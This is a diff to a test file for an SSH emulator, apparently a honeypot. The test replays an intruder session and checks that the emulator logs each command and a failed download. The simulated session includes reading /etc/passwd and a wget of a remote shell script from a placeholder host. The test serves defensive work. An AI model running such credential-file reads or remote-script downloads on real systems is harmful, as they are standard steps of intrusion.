@@ -108,14 +108,21 @@ describe('ssh emulator', () => {
       await waitScreen(/whoami\r\ndeploy\r\n/)
       channel.write('cat /etc/passwd\r')
       await waitScreen(/root:x:0:0:root:\/root:\/bin\/bash/)
-      channel.write('wget http://203.0.113.9/x.sh\r')
-      await waitScreen(/wget: unable to resolve host address/)
+      // A name that does not resolve: the real download fails the way wget says, and is recorded.
+      channel.write('wget http://updates.invalid/x.sh\r')
+      await waitScreen(/wget: unable to resolve host address 'updates\.invalid'/)
       channel.write('exit\r')
       await new Promise((resolve) => channel.on('close', resolve))
       const commands = ssh.events.filter((e) => e.event === 'command').map((e) => e.fields.cmd)
       expect(commands).toEqual(
-        expect.arrayContaining(['whoami', 'cat /etc/passwd', 'wget http://203.0.113.9/x.sh']),
+        expect.arrayContaining(['whoami', 'cat /etc/passwd', 'wget http://updates.invalid/x.sh']),
       )
+      const download = await ssh.waitFor((e) => e.event === 'download')
+      expect(download.fields).toMatchObject({
+        url: 'http://updates.invalid/x.sh',
+        error: 'resolve',
+        tool: 'wget',
+      })
       const success = await ssh.waitFor((e) => e.event === 'auth_attempt' && e.fields.success === true)
       expect(success.fields.username).toBe('deploy')
     } finally {
